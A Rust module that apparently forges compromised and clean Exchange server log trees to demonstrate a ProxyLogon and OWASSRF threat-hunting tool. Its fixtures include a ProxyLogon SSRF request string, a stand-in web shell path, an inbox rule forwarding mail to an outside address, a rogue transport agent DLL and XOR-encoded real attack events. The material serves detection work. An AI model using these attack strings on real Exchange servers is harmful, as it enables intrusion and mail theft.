//! The demo section of `hunt`: two server trees forged into the demo
//! folder (one compromised the way the real OTRF ProxyLogon run was, one
//! clean with logs on every day of the exposure windows), hunted,
//! their verdicts printed and their reports written.
//!
//! The compromised tree carries the real OTRF events (MIT), kept XOR-
//! encoded in the repository because they hold the planted web shell
//! text, and decoded here into the demo folder. The dropped page itself
//! is a harmless stand-in: its place (an unknown page in `owa\auth`) is
//! what gives it away.

use std::io::Write;
use std::path::Path;

use vigie_hunt::engine::{HuntOptions, hunt};

/// The real OTRF ProxyLogon events, each byte XORed with 0x5A.
const OTRF_XOR: &[u8] = include_bytes!(
    "../../../../hunt/tests/fixtures/real/otrf-proxylogon/subset.jsonl.xor"
);

const EXCHANGE: &str = "Program Files/Microsoft/Exchange Server/V15";

const HTTPPROXY_FIELDS: &[&str] = &[
    "DateTime",
    "RequestId",
    "Protocol",
    "UrlHost",
    "UrlStem",
    "AuthenticatedUser",
    "AnchorMailbox",
    "UserAgent",
    "ClientIpAddress",
    "ServerHostName",
    "HttpStatus",
    "Method",
    "TargetServer",
    "RoutingHint",
    "BackEndCookie",
];

const IIS_FIELDS: &str = "date time s-ip cs-method cs-uri-stem cs-uri-query \
s-port cs-username c-ip cs(User-Agent) cs(Cookie) sc-status sc-substatus \
sc-win32-status time-taken";

/// One HttpProxy row from `(field, value)` pairs; other fields empty.
pub(super) fn httpproxy_row(values: &[(&str, &str)]) -> String {
    HTTPPROXY_FIELDS
        .iter()
        .map(|f| {
            values
                .iter()
                .find(|(k, _)| k == f)
                .map_or(String::new(), |(_, v)| v.to_string())
        })
        .collect::<Vec<_>>()
        .join(",")
}

fn httpproxy_log(rows: &[String]) -> String {
    let mut s = format!(
        "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n\
         #Log-type: HttpProxy Logs\r\n#Fields: {}\r\n",
        HTTPPROXY_FIELDS.join(",")
    );
    for r in rows {
        s.push_str(r);
        s.push_str("\r\n");
    }
    s
}

fn iis_log(rows: &[&str]) -> String {
    let mut s = format!(
        "#Software: Microsoft Internet Information Services 10.0\r\n\
         #Version: 1.0\r\n#Fields: {IIS_FIELDS}\r\n"
    );
    for r in rows {
        s.push_str(r);
        s.push_str("\r\n");
    }
    s
}

/// An Exchange CSV log (`#Fields:` header) of `kind`, rows given as
/// `(field, value)` pairs (other fields empty, values quoted as needed).
fn exchange_csv(kind: &str, fields: &str, rows: &[&[(&str, &str)]]) -> String {
    let mut s = format!(
        "#Software: Microsoft Exchange Server\r\n#Version: 15.02.1118.007\r\n\
         #Log-type: {kind}\r\n#Fields: {fields}\r\n"
    );
    for row in rows {
        let cells: Vec<String> = fields
            .split(',')
            .map(|f| {
                let v =
                    row.iter().find(|(k, _)| *k == f).map_or("", |(_, v)| v);
                if v.contains([',', '"']) {
                    format!("\"{}\"", v.replace('"', "\"\""))
                } else {
                    v.to_string()
                }
            })
            .collect();
        s.push_str(&cells.join(","));
        s.push_str("\r\n");
    }
    s
}

/// Rps_Http columns (as CrowdStrike's Rps_Http-IOC script names them).
const RPS_HTTP_FIELDS: &str = "DateTime,StartTime,RequestId,MajorVersion,\
MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,UrlHost,UrlStem,\
AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,\
ManagedOrganization,ClientIpAddress,ServerHostName,FrontEndServer,HttpStatus,\
SubStatus,ErrorCode,Action,CommandId,CommandName,SessionId,ShellId,FailFast,\
ContributeToFailFast,RequestBytes,ClientInfo,CPU,Memory,\
ActivityContextLifeTime,TotalTime,UrlQuery,GenericLatency,GenericInfo,\
GenericErrors";

/// Cmdlet log columns (Exchange 2016/2019 `Rps Cmdlet Logs`, abridged to
/// the ones vigie reads plus their neighbours).
const CMDLET_FIELDS: &str = "DateTime,StartTime,RequestId,ClientRequestId,\
ServerHostName,ProcessId,ProcessName,ThreadId,Organization,\
AuthenticatedUser,ExecutingUserSid,IsAdmin,ClientApplication,Cmdlet,\
Parameters,ExecutionResult,GenericInfo,GenericErrors";

const RPS_DIR: &str = "Logging/CmdletInfra/Powershell-Proxy";

/// `agents.config` as Exchange writes it, plus any extra `<agent>` lines.
fn agents_config(extra: &str) -> String {
    let agent = |name: &str, factory: &str, dll: &str| {
        format!(
            "    <agent name=\"{name}\" baseType=\"Microsoft.Exchange.Data.\
             Transport.Routing.RoutingAgentFactory\" classFactory=\"Microsoft.\
             Exchange.{factory}\" assemblyPath=\"C:\\Program Files\\Microsoft\\\
             Exchange Server\\V15\\TransportRoles\\agents\\{dll}.dll\" \
             enabled=\"true\" />\r\n"
        )
    };
    format!(
        "<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n<configuration>\r\n  \
         <mexRuntime>\r\n    <agentList>\r\n{}{}{extra}    </agentList>\r\n    \
         <settings />\r\n  </mexRuntime>\r\n</configuration>\r\n",
        agent(
            "Transport Rule Agent",
            "MessagingPolicies.TransportRuleAgent.TransportRuleAgentFactory",
            "Hygiene\\Microsoft.Exchange.MessagingPolicies.TransportRuleAgent",
        ),
        agent(
            "Malware Agent",
            "Transport.Agent.Malware.MalwareAgentFactory",
            "Hygiene\\Microsoft.Exchange.Transport.Agent.Malware",
        ),
    )
}

fn write(root: &Path, rel: &str, data: &[u8]) -> anyhow::Result<()> {
    let p = root.join(rel);
    if let Some(dir) = p.parent() {
        std::fs::create_dir_all(dir)?;
    }
    std::fs::write(p, data)?;
    Ok(())
}

fn benign_proxy(when: &str, host: &str) -> String {
    httpproxy_row(&[
        ("DateTime", when),
        ("Protocol", "Owa"),
        ("UrlStem", "/owa/"),
        ("AuthenticatedUser", "alice@contoso.local"),
        ("AnchorMailbox", "Smtp~alice@contoso.local"),
        ("UserAgent", "Mozilla/5.0"),
        ("ClientIpAddress", "10.0.0.7"),
        ("ServerHostName", host),
        ("HttpStatus", "200"),
        ("Method", "GET"),
    ])
}

/// Everyday traffic on every day of `months` (first, last as
/// `(year, month)`): one HttpProxy and one IIS file a month, named as
/// Exchange and IIS name them, so every day of the exposure windows in
/// that span holds records, as on a real server.
fn everyday_logs(
    root: &Path,
    host: &str,
    first: (i32, u32),
    last: (i32, u32),
) -> anyhow::Result<()> {
    let (mut y, mut m) = first;
    while (y, m) <= last {
        let days = chrono::NaiveDate::from_ymd_opt(y, m, 1)
            .and_then(|d| {
                let next = if m == 12 { (y + 1, 1) } else { (y, m + 1) };
                let n = chrono::NaiveDate::from_ymd_opt(next.0, next.1, 1)?;
                Some((n - d).num_days() as u32)
            })
            .unwrap_or(28);
        let mut proxy = Vec::new();
        let mut iis = Vec::new();
        for d in 1..=days {
            proxy.push(benign_proxy(
                &format!("{y}-{m:02}-{d:02}T08:00:00.000Z"),
                host,
            ));
            iis.push(format!(
                "{y}-{m:02}-{d:02} 08:00:00 10.0.0.5 GET /owa/ - 443 \
                 alice 10.0.0.7 Mozilla/5.0 - 200 0 0 12"
            ));
        }
        write(
            root,
            &format!(
                "{EXCHANGE}/Logging/HttpProxy/Owa/HttpProxy_{y}{m:02}0100-1.LOG"
            ),
            httpproxy_log(&proxy).as_bytes(),
        )?;
        let rows: Vec<&str> = iis.iter().map(String::as_str).collect();
        write(
            root,
            &format!(
                "inetpub/logs/LogFiles/W3SVC1/u_ex{:02}{m:02}.log",
                y - 2000
            ),
            iis_log(&rows).as_bytes(),
        )?;
        (y, m) = if m == 12 { (y + 1, 1) } else { (y, m + 1) };
    }
    Ok(())
}

/// A server a ProxyLogon attacker went through.
pub(super) fn forge_compromised(
    root: &Path,
    host: &str,
) -> anyhow::Result<()> {
    let ssrf = httpproxy_row(&[
        ("DateTime", "2021-03-14T01:39:50.512Z"),
        ("Protocol", "Ecp"),
        ("UrlStem", "/ecp/y.js"),
        (
            "AnchorMailbox",
            "ServerInfo~a]@MXS01.contoso.local:444/ecp/proxyLogon.ecp?#",
        ),
        ("UserAgent", "python-requests/2.25.1"),
        ("ClientIpAddress", "127.0.0.1"),
        ("ServerHostName", host),
        ("HttpStatus", "241"),
        ("Method", "POST"),
        ("TargetServer", "MXS01.contoso.local"),
    ]);
    everyday_logs(root, host, (2020, 12), (2021, 3))?;
    let proxy = httpproxy_log(&[ssrf]);
    write(
        root,
        &format!(
            "{EXCHANGE}/Logging/HttpProxy/Ecp/HttpProxy_2021031401-1.LOG"
        ),
        proxy.as_bytes(),
    )?;
    let iis = iis_log(&[
        "2021-03-14 01:39:50 127.0.0.1 POST /ecp/y.js - 443 - 127.0.0.1 \
         python-requests/2.25.1 X-BEResource=a]@MXS01:444/ecp/proxyLogon.ecp?~1941962754 \
         200 0 0 31",
        "2021-03-14 01:40:20 127.0.0.1 GET /owa/auth/ohyeah.aspx - 443 - \
         127.0.0.1 python-requests/2.25.1 - 200 0 0 15",
    ]);
    write(
        root,
        "inetpub/logs/LogFiles/W3SVC1/u_ex210314.log",
        iis.as_bytes(),
    )?;
    let events: Vec<u8> = OTRF_XOR.iter().map(|b| b ^ 0x5A).collect();
    write(
        root,
        "Windows/System32/winevt/Logs/proxylogon_ssrf_rce_poc.json",
        &events,
    )?;
    let auth = format!("{EXCHANGE}/FrontEnd/HttpProxy/owa/auth");
    write(root, &format!("{auth}/logon.aspx"), b"<%@ Page %>\r\n")?;
    // A harmless stand-in for the dropped web shell: its place betrays it.
    let shell = format!("{auth}/ohyeah.aspx");
    write(
        root,
        &shell,
        b"http://f/<!-- stand-in for the OAB config dump with a shell -->\r\n",
    )?;
    // Dated as in the real run (the Sysmon event of its write), so the
    // file sits in the timeline next to the requests that planted it.
    let planted =
        std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_615_686_013); // 2021-03-14T01:40:13Z
    std::fs::File::options()
        .write(true)
        .open(root.join(&shell))?
        .set_modified(planted)?;
    std::fs::create_dir_all(
        root.join("inetpub/wwwroot/aspnet_client/system_web"),
    )?;
    forge_persistence(root, host)
}

/// What the intruder came back for in December 2022: an OWASSRF
/// request to remote PowerShell (the back end's Rps_Http log), the inbox
/// rule it created (the cmdlet log) and a transport agent loaded from
/// `ProgramData`.
fn forge_persistence(root: &Path, host: &str) -> anyhow::Result<()> {
    let ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 \
              (KHTML, like Gecko) Chrome/105.0.0.0 Safari/537.36";
    let rps = exchange_csv(
        "Rps Http Logs",
        RPS_HTTP_FIELDS,
        &[&[
            ("DateTime", "2022-12-15T10:02:11.208Z"),
            ("UrlStem", "/powershell"),
            ("AuthenticationType", "Kerberos"),
            ("IsAuthenticated", "true"),
            ("AuthenticatedUser", "CONTOSO\\alice"),
            ("ClientIpAddress", "198.51.100.23 10.0.0.5"),
            ("ServerHostName", host),
            ("FrontEndServer", host),
            ("HttpStatus", "200"),
            ("CommandName", "New-InboxRule"),
            ("ClientInfo", ua),
        ]],
    );
    write(
        root,
        &format!("{EXCHANGE}/{RPS_DIR}/Http/Rps_Http_2022121510-1.LOG"),
        rps.as_bytes(),
    )?;
    let cmdlets = exchange_csv(
        "Rps Cmdlet Logs",
        CMDLET_FIELDS,
        &[&[
            ("DateTime", "2022-12-15T10:02:12.431Z"),
            ("ServerHostName", host),
            ("ProcessName", "w3wp#MSExchangePowerShellAppPool"),
            ("AuthenticatedUser", "CONTOSO\\alice"),
            (
                "ExecutingUserSid",
                "S-1-5-21-1004336348-1177238915-682003330-1108",
            ),
            ("IsAdmin", "False"),
            ("Cmdlet", "New-InboxRule"),
            (
                "Parameters",
                "-Mailbox \"alice\" -Name \".\" -ForwardTo \
                 \"sync@mail-archive.example\" -StopProcessingRules \"True\"",
            ),
            ("ExecutionResult", "Success"),
            ("GenericInfo", "PSSenderInfo=CONTOSO\\alice;"),
        ]],
    );
    write(
        root,
        &format!("{EXCHANGE}/{RPS_DIR}/Cmdlet/Rps_Cmdlet_2022121510-1.LOG"),
        cmdlets.as_bytes(),
    )?;
    let rogue = "    <agent name=\"Exchange Hygiene Agent\" baseType=\"Microsoft.\
                 Exchange.Data.Transport.Routing.RoutingAgentFactory\" \
                 classFactory=\"Hygiene.RoutingFactory\" assemblyPath=\"C:\\\
                 ProgramData\\Microsoft\\Crypto\\hygiene.dll\" enabled=\"true\" />\r\n";
    let agents = format!("{EXCHANGE}/TransportRoles/Shared/agents.config");
    write(root, &agents, agents_config(rogue).as_bytes())?;
    // Dated as the intruder's change (2022-12-15T10:05:00Z), so the
    // finding sits in the timeline after the OWASSRF request.
    let changed =
        std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_671_098_700);
    std::fs::File::options()
        .write(true)
        .open(root.join(&agents))?
        .set_modified(changed)?;
    Ok(())
}

/// A server whose logs hold records on every day from before the first
/// exposure window (December 2020) to January 2023, after the last
/// (ProxyNotShell/OWASSRF), and show nothing.
pub(super) fn forge_clean(root: &Path, host: &str) -> anyhow::Result<()> {
    everyday_logs(root, host, (2020, 12), (2023, 1))?;
    // Exchange's own health probe in the cmdlet log, and the stock
    // transport agents: the Persistence family has something to judge.
    let probe = exchange_csv(
        "Rps Cmdlet Logs",
        CMDLET_FIELDS,
        &[&[
            ("DateTime", "2023-01-11T01:01:19.898Z"),
            ("ServerHostName", host),
            ("ProcessName", "w3wp#MSExchangePowerShellAppPool"),
            ("AuthenticatedUser", "HealthMailbox0c9a1b2"),
            ("ClientApplication", "ActiveMonitor"),
            ("Cmdlet", "Get-Mailbox"),
            ("Parameters", "-ResultSize \"1\""),
            ("ExecutionResult", "Success"),
        ]],
    );
    write(
        root,
        &format!("{EXCHANGE}/{RPS_DIR}/Cmdlet/Rps_Cmdlet_2023011101-1.LOG"),
        probe.as_bytes(),
    )?;
    write(
        root,
        &format!("{EXCHANGE}/TransportRoles/Shared/agents.config"),
        agents_config("").as_bytes(),
    )?;
    let auth = format!("{EXCHANGE}/FrontEnd/HttpProxy/owa/auth");
    write(root, &format!("{auth}/logon.aspx"), b"<%@ Page %>\r\n")?;
    std::fs::create_dir_all(
        root.join("inetpub/wwwroot/aspnet_client/system_web"),
    )?;
    Ok(())
}

/// Forge both trees into the demo folder, hunt them, write the reports.
pub fn demo(ctx: &mut crate::cmd::demo::DemoContext) -> anyhow::Result<()> {
    writeln!(
        ctx.out,
        "== vigie hunt (forged server trees, real OTRF events)"
    )?;
    let base = ctx.dir.join("hunt");
    let evidence = base.join("evidence");
    if evidence.exists() {
        // Our own forged trees from an earlier demo run, never evidence.
        std::fs::remove_dir_all(&evidence)?;
    }
    let reports = base.join("reports");
    let cases = [("EXCH01", true), ("EXCH02", false)];
    let mut jsonl = Vec::new();
    for (host, compromised) in cases {
        let root = evidence.join(host).join("C");
        if compromised {
            forge_compromised(&root, host)?;
        } else {
            forge_clean(&root, host)?;
        }
        let opts = HuntOptions {
            inputs: vec![root.clone()],
            ..HuntOptions::default()
        };
        let output = hunt(&opts, &|_| {})?;
        let r = &output.report;
        writeln!(
            ctx.out,
            "{host}: {} ({} findings, {} timeline events)",
            r.verdict.as_str(),
            r.findings.len(),
            output.timeline.len()
        )?;
        for f in &r.families {
            writeln!(
                ctx.out,
                "  {:<30} {}",
                f.family.label(),
                f.verdict.as_str()
            )?;
        }
        super::write_out(&output, &reports)?;
        serde_json::to_writer(&mut jsonl, r)?;
        jsonl.push(b'\n');
    }
    let all = base.join("hunts.jsonl");
    std::fs::write(&all, jsonl)?;
    ctx.results.push(all);
    writeln!(ctx.out, "reports: {}", reports.display())?;
    Ok(())
}
